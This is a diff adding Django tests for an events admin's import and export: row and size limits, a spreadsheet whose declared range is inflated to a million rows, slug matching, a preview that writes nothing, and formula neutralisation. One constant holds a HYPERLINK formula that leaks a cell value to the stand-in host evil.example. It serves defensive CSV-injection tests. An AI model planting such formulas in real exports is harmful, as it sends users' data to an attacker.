@@ -3,13 +3,22 @@ they say, an export imports back unchanged, bad values are named in plain
 words, and only staff given the right may import (tests/browser/test_import.py
 goes through the admin's pages)."""
 
+import io
+import zipfile
+
+import openpyxl
 import pytest
 import tablib
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from django.utils.html import strip_tags
 
+from academy.import_files import MAX_IMPORT_BYTES, MAX_ROWS
 from events.imports import EventResource
 from events.models import Event
-from tests.factories import make_country
+from tests.factories import make_country, make_event
 from tests.helpers import ROOT
 
 pytestmark = pytest.mark.django_db
@@ -94,7 +103,8 @@ def test_a_bad_value_is_a_row_error_and_nothing_is_imported(column, value, messa
     assert not Event.objects.exists()
 
 
-def test_a_row_publishing_what_the_event_form_warns_of_is_a_row_error():
+@pytest.mark.parametrize("dry_run", [True, False], ids=["preview", "import"])
+def test_a_row_publishing_what_the_event_form_warns_of_is_a_row_error(dry_run):
     make_country(name="Russia", slug="russia")
     make_country(name="Armenia", slug="armenia")
     header = (
@@ -102,7 +112,7 @@ def test_a_row_publishing_what_the_event_form_warns_of_is_a_row_error():
     )
     row = "round-table,Round Table,meeting,published,held,2016,russia,armenia"
 
-    result = imported(f"{header}\n{row}\n", dry_run=True)
+    result = imported(f"{header}\n{row}\n", dry_run=dry_run)
 
     assert [invalid.error_dict for invalid in result.invalid_rows] == [
         {
@@ -122,3 +132,193 @@ def test_only_staff_given_the_right_may_import(editor_client, admin_client):
     changelist = editor_client.get(reverse("admin:events_event_changelist")).text
     assert "/admin/events/event/import/" not in changelist
     assert "/admin/events/event/export/" in changelist
+
+
+def posted_import(client, name, content, file_format):
+    """The admin's import page after `content` is sent as the file `name`."""
+    formats = {"csv": "0", "xlsx": "1"}
+    return client.post(
+        reverse("admin:events_event_import"),
+        {
+            "resource": "0",
+            "format": formats[file_format],
+            "import_file": SimpleUploadedFile(name, content),
+        },
+    )
+
+
+def test_a_file_of_too_many_rows_is_refused_before_a_row_is_read(admin_client):
+    header = (IMPORTS / "events-template.csv").read_text().strip()
+    rows = [f"event-{number},Event {number}" for number in range(MAX_ROWS + 1)]
+    content = "\n".join([header, *rows]).encode()
+
+    response = posted_import(admin_client, "events.csv", content, "csv")
+
+    assert response.status_code == 200
+    assert response.context["form"].errors == {
+        "import_file": ["A file may hold at most 2,000 rows: import it in parts."]
+    }
+    assert "result" not in response.context  # no row was previewed
+    assert not Event.objects.exists()
+
+
+def test_a_file_of_the_most_rows_is_previewed(admin_client):
+    header = (IMPORTS / "events-template.csv").read_text().strip()
+    rows = [f"event-{number},Event {number}" for number in range(3)]
+    content = "\n".join([header, *rows, "", ""]).encode()
+
+    response = posted_import(admin_client, "events.csv", content, "csv")
+
+    assert response.context["form"].errors == {}
+    assert response.context["result"].totals["new"] == 3
+
+
+def test_a_spreadsheet_declaring_too_many_rows_is_refused_before_it_is_read(
+    admin_client,
+):
+    """A sheet's declared size is what openpyxl reads it to, filling missing
+    rows with empty ones: a million declared rows took minutes to read."""
+    workbook = openpyxl.Workbook()
+    workbook.active.append(["slug", "title_en"])
+    workbook.active.append(["event-1", "Event 1"])
+    written = io.BytesIO()
+    workbook.save(written)
+    content = rewritten_in_zip(
+        written.getvalue(),
+        "xl/worksheets/sheet1.xml",
+        lambda xml: xml.replace(b'ref="A1:B2"', b'ref="A1:B1000000"'),
+    )
+
+    response = posted_import(admin_client, "events.xlsx", content, "xlsx")
+
+    assert response.context["form"].errors == {
+        "import_file": ["A file may hold at most 2,000 rows: import it in parts."]
+    }
+    assert "result" not in response.context
+
+
+def test_a_file_over_the_size_limit_is_refused(admin_client):
+    header = (IMPORTS / "events-template.csv").read_text().strip()
+    content = (header + "\n" + "x" * MAX_IMPORT_BYTES).encode()
+
+    response = posted_import(admin_client, "events.csv", content, "csv")
+
+    assert response.context["form"].errors == {
+        "import_file": ["A file may be at most 5.0\xa0MB: import it in parts."]
+    }
+
+
+def rewritten_in_zip(archive, name, change):
+    """`archive` (bytes of a zip) with its member `name` passed through `change`."""
+    result = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(archive)) as source,
+        zipfile.ZipFile(result, "w") as target,
+    ):
+        for info in source.infolist():
+            data = source.read(info)
+            target.writestr(info, change(data) if info.filename == name else data)
+    return result.getvalue()
+
+
+def test_a_row_without_a_slug_changes_no_event():
+    """Events are matched by their slug only: none is made from a title, so a
+    row cannot land on another event the way a made slug could."""
+    known = make_event(slug="5th", title="5th")
+    header = (IMPORTS / "events-template.csv").read_text().strip()
+
+    result = imported(f"{header}\n,5th,,academy_session,draft,held,,,,,,,,,,,,\n")
+
+    assert [invalid.error_dict for invalid in result.invalid_rows] == [
+        {"slug": ["This field cannot be blank."]}
+    ]
+    assert list(Event.objects.values_list("pk", "status")) == [(known.pk, "published")]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open record")'
+
+
+def exported(client, file_format):
+    """The admin's export of every event's slug and English title, as rows."""
+    formats = {"csv": "0", "xlsx": "1"}
+    response = client.post(
+        reverse("admin:events_event_export"),
+        {
+            "resource": "0",
+            "format": formats[file_format],
+            "eventresource_slug": "on",
+            "eventresource_title_en": "on",
+        },
+    )
+    assert response.status_code == 200
+    if file_format == "csv":
+        return tablib.Dataset().load(response.content.decode(), format="csv")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return list(sheet.iter_rows(min_row=2))
+
+
+def test_a_formula_in_a_title_is_text_in_the_admins_csv_export(admin_client):
+    make_event(slug="leak", title=FORMULA)
+
+    rows = exported(admin_client, "csv")
+
+    assert rows.dict == [{"slug": "leak", "title_en": "'" + FORMULA}]
+
+
+def test_a_formula_in_a_title_is_text_in_the_admins_xlsx_export(admin_client):
+    make_event(slug="leak", title=FORMULA)
+
+    [(slug, title)] = exported(admin_client, "xlsx")
+
+    assert (slug.value, title.value, title.data_type) == ("leak", "'" + FORMULA, "s")
+
+
+def test_an_export_of_formula_like_texts_imports_back_unchanged():
+    titles = [FORMULA, "+1 more", "-5 degrees", "@home", "'=quoted", "plain"]
+    for number, title in enumerate(titles):
+        make_event(slug=f"event-{number}", title=title)
+    exported_csv = EventResource().export().csv
+
+    result = imported(exported_csv, dry_run=True)
+
+    assert result.totals["skip"] == len(titles)
+
+
+def test_a_control_character_stored_in_a_title_is_left_out_of_the_xlsx_export(
+    admin_client,
+):
+    make_event(slug="opening", title="Opening\x0bsession")
+
+    [(slug, title)] = exported(admin_client, "xlsx")
+
+    assert (slug.value, title.value) == ("opening", "Openingsession")
+
+
+def test_the_preview_writes_nothing_and_shows_what_the_import_would_set(
+    admin_client, archive_2015
+):
+    """A preview that wrote each row in a transaction held SQLite's write lock
+    while it read every row: staff saving or logging in meanwhile waited, then
+    got a 500. Without writes it is only taken for a moment by each check of
+    a constraint (Django runs them in a savepoint)."""
+    header = (IMPORTS / "events-template.csv").read_text().strip()
+    row = (
+        "5th,5th CSTO Academy,,academy_session,draft,held,June 2016,,,russia,,,,,"
+        "Russia; Armenia,csto,migration,Valery Semerikov"
+    )
+
+    with CaptureQueriesContext(connection) as queries:
+        response = posted_import(
+            admin_client, "events.csv", f"{header}\n{row}\n".encode(), "csv"
+        )
+
+    writes = [
+        query["sql"]
+        for query in queries
+        if query["sql"].split()[0].upper() in {"INSERT", "UPDATE", "DELETE"}
+    ]
+    assert writes == []
+    [previewed] = response.context["result"].rows
+    assert previewed.import_type == "new"
+    assert strip_tags(previewed.diff[14]) == "russia; armenia"
+    assert not Event.objects.filter(slug="5th").exists()
